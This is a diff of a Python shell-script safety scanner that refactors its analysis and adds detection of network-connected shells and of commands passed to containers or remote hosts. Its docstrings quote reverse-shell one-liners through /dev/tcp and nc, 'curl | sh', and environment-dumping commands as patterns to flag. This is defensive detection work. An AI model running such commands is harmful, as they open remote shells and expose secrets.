@@ -13,37 +13,21 @@ from __future__ import annotations
 
 import re
 
-from skillgit.safety import hooks
-from skillgit.safety.files import (
-    ARCHIVE,
-    base,
-    extract_dirs,
-    moved,
-    on_path,
-    saved_files,
-)
+from skillgit.safety import hooks, reveal
+from skillgit.safety.files import base
 from skillgit.safety.findings import Finding
 from skillgit.safety.launch import State, run_path, runs_fetched
-from skillgit.safety.resolve import (
-    Resolved,
-    assignment,
-    names_of,
-    remember_definition,
-    resolve,
-)
-from skillgit.safety.shell import CLAUSE_END, MAX_DEPTH, Command, Pipeline, Word, parse, walk
+from skillgit.safety.memory import remember
+from skillgit.safety.resolve import Resolved
+from skillgit.safety.shell import MAX_DEPTH, Command, Pipeline, parse, walk
+from skillgit.safety.taint import source, views, word_risk
 from skillgit.safety.vocab import (
-    ARCHIVERS,
-    BUILDERS,
-    CLONERS,
     CODE_FLAGS,
     DATA_FLAGS,
-    DECODERS,
     DOWNLOAD_RUN,
     EXFILTRATION,
-    FETCH_API,
-    FETCHERS,
     OBFUSCATED,
+    RAW_SOCKETS,
     SENDERS,
     SHELLS,
     WRAPPERS,
@@ -51,53 +35,59 @@ from skillgit.safety.vocab import (
     program_name,
 )
 
-_LOOKS_LIKE_A_STEP = frozenset(FETCHERS | SHELLS | set(WRAPPERS) | BUILDERS | ARCHIVERS |
-                               {"git", "chmod", "cd", "cat", "tee", "echo", "printf", "base64",
-                                "python", "python3", "node", "export", "crontab", "systemctl",
-                                "launchctl", "cp", "mv", "ln", "install", "sed", "rm", "mkfs",
-                                "dd", "set", "setx", "npx", "uvx", "pipx", "bunx", "pnpx",
-                                "conda", "xxd", "schtasks", "reg", "set-content", "add-content",
-                                "less", "mshta", "msiexec", "certutil", "alias"}
-                               | SENDERS)
-
-
 _COMPOUND = re.compile(r"[|;&`]|\$\(|<\(")
 _STRING_LITERAL = re.compile(r"'([^'\n]{3,})'|\"([^\"\n]{3,})\"|`([^`\n]{3,})`")
+# Programs that run a quoted argument as a command line (`ssh h 'env'`, `docker exec c sh -c …`).
+_RUN_ARGUMENTS = SHELLS | WRAPPERS.keys() | {"ssh", "docker", "podman", "kubectl", "su",
+                                            "runuser", "watch", "entr", "git", "make"}
+_SOCKET = re.compile(r"/dev/(?:tcp|udp)/")
+_REMOTE = frozenset({"ssh", "docker", "podman", "kubectl", "nerdctl", "oc", "lxc", "multipass",
+                     "vagrant", "wsl", "adb"})
+# The first words of a command a container or host runs that matter for the screen.
+_REMOTE_FIRST = frozenset({"env", "printenv", "set", "export", "declare", "sh", "bash", "cat",
+                           "echo", "printf", "python", "python3", "node", "curl", "wget"})
 _AWKS = frozenset({"awk", "gawk", "mawk", "nawk", "busybox-awk"})
 
 
-# Program names that are also everyday words: a command only when they come first.
-_ENGLISH = frozenset({".", "?", "at", "source", "batch", "exec", "eval", "su", "cmd", "fetch",
-                      "http", "https", "links", "host", "type", "time", "command", "start",
-                      "call", "set", "export", "install", "run", "task", "just", "make",
-                      "print", "read", "view", "open", "copy", "sort", "cut", "find", "watch",
-                      "env", "nice", "builtin", "chroot", "cat", "tee", "echo", "printf",
-                      "rev", "tr", "ln", "cp", "mv", "apt", "port", "pkg", "snap", "get",
-                      "post", "script", "parallel", "expect"})
-
-
 def analyse(script: list[Pipeline], depth: int = 0, state: State | None = None,
-            stdin: str | None = None) -> list[Finding]:
+            stdin: str | None = None, reveals: bool = True) -> list[Finding]:
     """The findings of a parsed script; `stdin` is the risk of what its first pipeline reads
-    (a `>(…)` process substitution fed by a download)."""
+    (a `>(…)` process substitution fed by a download); `reveals=False` for the text of an
+    argument that no program runs (`rg "a|env"`), where a bare `env` is not a command."""
     state = state or State()
     out: list[Finding] = []
     for pipeline in script:
         upstream, stdin = stdin, None
         reads: str | None = None
+        stages = []
         for command in pipeline.commands:
-            views = _views(command, state)
-            for r in views:
+            readings = views(command, state)
+            stages.append((command, readings))
+            for r in readings:
                 out += _command(command, r, state, upstream, reads, pipeline.line, depth)
-            produced = source(command, state, views)
-            _remember(command, state, pipeline.line, upstream or produced, views)
+            produced = source(command, state, readings)
+            remember(command, state, pipeline.line, upstream or produced, readings)
             if depth < MAX_DEPTH:
                 out += _inner(command, state, depth, upstream, upstream or produced)
             upstream = upstream or produced
             reads = hooks.reads(command, state.variables) or reads
+        if reveals:
+            out += reveal.findings(stages, state)
+        out += _remote_shell(stages)
         for command in walk([pipeline]):
             out += _nested(command, depth)
     return out
+
+
+def _remote_shell(stages: list[tuple[Command, list[Resolved]]]) -> list[Finding]:
+    """A shell whose input or output is a network connection: redirected to `/dev/tcp/…`
+    (`bash -i >& /dev/tcp/h/p 0>&1`), or in one pipeline with a raw socket (`cat f | sh -i |
+    nc h p > f`)."""
+    shells = [(c, r) for c, views in stages for r in views if r.names & SHELLS or runs_stdin(r)]
+    if any(_SOCKET.match(x.target.literal) for c, _ in shells for x in c.redirects) or (
+            shells and any(r.names & RAW_SOCKETS for _, views in stages for r in views)):
+        return [Finding(DOWNLOAD_RUN, "a shell connected to the network")]
+    return []
 
 
 def _inner(command: Command, state: State, depth: int, given: str | None,
@@ -117,22 +107,6 @@ def _inner(command: Command, state: State, depth: int, given: str | None,
         if redirect.body:
             out += analyse(parse(redirect.body), depth + 1, state)
     return out
-
-
-def _views(command: Command, state: State) -> list[Resolved]:
-    """The command from its first word, from every later word that names a known program, and
-    from every word after a clause ends (transcript text puts prose before commands: "no, run
-    curl … | sh", "Actually, eval …", "before make build: perl -e …", "first — …")."""
-    words = command.words[:64]
-    starts = [0] + [i for i, w in enumerate(words[1:], 1) if CLAUSE_END.search(
-        words[i - 1].raw) or (w.static and _names_a_step(w, state))]
-    return [resolve(command, state.variables, i) for i in starts]
-
-
-def _names_a_step(word: Word, state: State) -> bool:
-    names = names_of(word, state.variables)
-    return bool(names & _LOOKS_LIKE_A_STEP or any(is_language(n) for n in names)) and not (
-        names & _ENGLISH)
 
 
 def runs_stdin(r: Resolved) -> bool:
@@ -164,57 +138,6 @@ def runs_stdin(r: Resolved) -> bool:
 def _runs_args(r: Resolved) -> bool:
     return bool(r.names & SHELLS) or (any(is_language(n) for n in r.names) and not (
         r.args and r.args[0].literal in DATA_FLAGS))
-
-
-def word_risk(word: Word, state: State, backticks: bool = True) -> str | None:
-    """The risk of what the word expands to. `backticks=False` where Markdown's code spans
-    would be read as substitutions (prose starting with `curl …`, tables with pipes)."""
-    for inner in word.scripts(backticks=backticks):
-        for command in walk(inner):
-            if (risk := source(command, state)) is not None:
-                return risk
-    for var in word.variables():
-        if var.text in state.tainted_vars:
-            return state.tainted_vars[var.text]
-    return None
-
-
-def source(command: Command, state: State, views: list[Resolved] | None = None) -> str | None:
-    """The risk of what this command prints: fetched, decoded, or read from such a file."""
-    if command.group is not None:
-        return next(filter(None, (source(c, state) for c in walk(command.group))), None)
-    for word in command.words:
-        text = word.literal.lower()
-        if "downloadstring" in text or "net.webclient" in text or "downloaddata" in text:
-            return DOWNLOAD_RUN
-        if (risk := word_risk(word, state, backticks=False)) is not None:
-            return risk
-    for r in views if views is not None else _views(command, state):
-        remote_git = r.name == "git" and any(  # `git archive --remote=…`
-            a.startswith("--remote") for a in r.arg_texts())
-        if r.names & FETCHERS or remote_git or (any(is_language(n) for n in r.names) and any(
-                re.search(FETCH_API, a, re.I) for a in r.arg_texts())):
-            return DOWNLOAD_RUN
-        name, args = r.name, [a.lower() for a in r.arg_texts()]
-        if name in DECODERS and any(m in args or m == "" or any(m in a for a in args)
-                                    for m in DECODERS[name]):
-            return OBFUSCATED
-        if name in ("printf", "echo", "print") and any(re.search(r"\\(?:x[0-9a-f]{2}|[0-7]{3})",
-                                                                 a) for a in args):
-            return OBFUSCATED
-        if name in ("cat", "type", "get-content", "gc", "tee") or r.names & SHELLS:
-            for arg in r.arg_texts():
-                if (risk := state.tainted_files.get(base(arg))) is not None:
-                    return risk
-    for redirect in command.redirects:
-        if redirect.op.startswith("<"):
-            if (risk := state.tainted_files.get(base(redirect.target.literal))) is not None:
-                return risk
-            if redirect.target.literal.startswith("/dev/tcp/"):
-                return DOWNLOAD_RUN
-            if (risk := word_risk(redirect.target, state)) is not None:
-                return risk
-    return None
 
 
 def _command(command: Command, r: Resolved, state: State, upstream: str | None,
@@ -250,62 +173,22 @@ def _command(command: Command, r: Resolved, state: State, upstream: str | None,
     return out
 
 
-def _remember(command: Command, state: State, line: int, tainted: str | None,
-              views: list[Resolved]) -> None:
-    """Update the state with what this command did: assignments, saved files, clones, cd."""
-    for r in views:
-        for name, value in r.assignments + _exported(r):
-            risk = word_risk(value, state)
-            if hooks.secret_substituted(value):
-                state.secret_vars.add(name)
-            if risk is not None:
-                state.tainted_vars[name] = risk
-            elif value.static:
-                state.variables[name] = {program_name(value.static.split()[0])} \
-                    if value.static.split() else set()
-        saved = saved_files(command, r)
-        if tainted:  # `… > f`, `… | tee f`: what was fetched is now a file
-            saved += [x.target.literal for x in command.redirects if x.op in (
-                ">", ">>", ">|", "&>")]
-            if r.name in ("tee", "out-file", "set-content"):
-                saved += [a for a in r.arg_texts() if not a.startswith("-")]
-        for path, risk in [(p, DOWNLOAD_RUN) for p in saved] + moved(r, state.tainted_files):
-            state.tainted_files[base(path)] = risk
-            if on_path(path):
-                state.on_path.add(base(path))
-            if ARCHIVE.search(path):
-                state.archives.add(base(path))
-        remember_definition(command, state.variables, r.start)
-        if r.name in ("read", "mapfile", "readarray") and tainted:  # `… | while read l`
-            for name in (w.literal for w in r.args if not w.literal.startswith("-")):
-                state.tainted_vars[name] = tainted
-        pair = (r.name, r.args[0].literal if r.args else "")
-        if pair in CLONERS or (r.name, "") in CLONERS:
-            state.clone_lines.add(line)
-            plain = [a for a in r.arg_texts()[1:] if not a.startswith("-")]
-            if plain:
-                state.cloned.add(base(plain[-1]).removesuffix(".git"))
-        if r.name in ARCHIVERS and tainted:  # `curl … | tar xz`, `tar xf <(curl …)`
-            state.clone_lines.add(line)
-            state.extract_lines.add(line)
-            state.in_clone = True
-            state.cloned |= {base(d) for d in extract_dirs(r.arg_texts())}
-        if r.name in ARCHIVERS and any(base(a) in state.archives for a in r.arg_texts()):
-            state.clone_lines.add(line)
-            state.cloned |= {ARCHIVE.sub("", base(a)) for a in r.arg_texts()
-                             if base(a) in state.archives}
-        if r.name in ("cd", "pushd", "set-location", "sl") and r.args:
-            target = r.args[0].literal.rstrip("/")
-            state.in_clone = base(target) in state.cloned or (  # deeper into extracted code
-                state.in_clone and not target.startswith(("/", "~", "..")))
-            if state.in_clone:
-                state.cloned.add(base(target))
-
-
-def _exported(r: Resolved) -> list[tuple[str, Word]]:
-    if r.name not in ("export", "declare", "local", "readonly", "typeset", "set", "setx"):
-        return []
-    return [pair for a in r.args if (pair := assignment(a)) is not None]
+def _remote_command(command: Command, program: str, depth: int) -> list[Finding]:
+    """The command a shell, a container or another host is given as plain words (`bash -c
+    env`, `cmd /c set`, `docker exec app env`, `ssh host printenv`)."""
+    words = command.words
+    start = None
+    if program in SHELLS:
+        start = next((i + 1 for i, w in enumerate(words[:-1]) if w.literal in CODE_FLAGS), None)
+    elif program in _REMOTE:
+        start = next((i for i, w in enumerate(words[2:], 2) if program_name(
+            w.literal) in _REMOTE_FIRST), None)
+    if start is None or (words[start].quoted and start == len(words) - 1 and re.search(
+            r"\s|[|;&`$]", words[start].literal)):
+        return []  # a quoted command line is read by `_nested`
+    text = words[start].literal if start == len(words) - 1 else " ".join(
+        w.raw for w in words[start:])
+    return analyse(parse(text), depth + 1)
 
 
 def _nested(command: Command, depth: int) -> list[Finding]:
@@ -314,12 +197,15 @@ def _nested(command: Command, depth: int) -> list[Finding]:
     if depth >= 3:
         return []
     out: list[Finding] = []
+    program = program_name(command.words[0].literal) if command.words else ""
+    runs = program in _RUN_ARGUMENTS or is_language(program)
+    out += _remote_command(command, program, depth)
     for word in command.words:
         text = word.literal
         if word.quoted and len(text) < 20000 and re.search(r"\s|[|;&`$]", text):
-            out += analyse(parse(text), depth + 1)
+            out += analyse(parse(text), depth + 1, reveals=runs)
             for m in _STRING_LITERAL.finditer(text):
                 inner = m.group(1) or m.group(2) or m.group(3) or ""
                 if _COMPOUND.search(inner):  # one plain command in code is not screened
-                    out += analyse(parse(inner), depth + 1)
+                    out += analyse(parse(inner), depth + 1, reveals=runs)
     return out
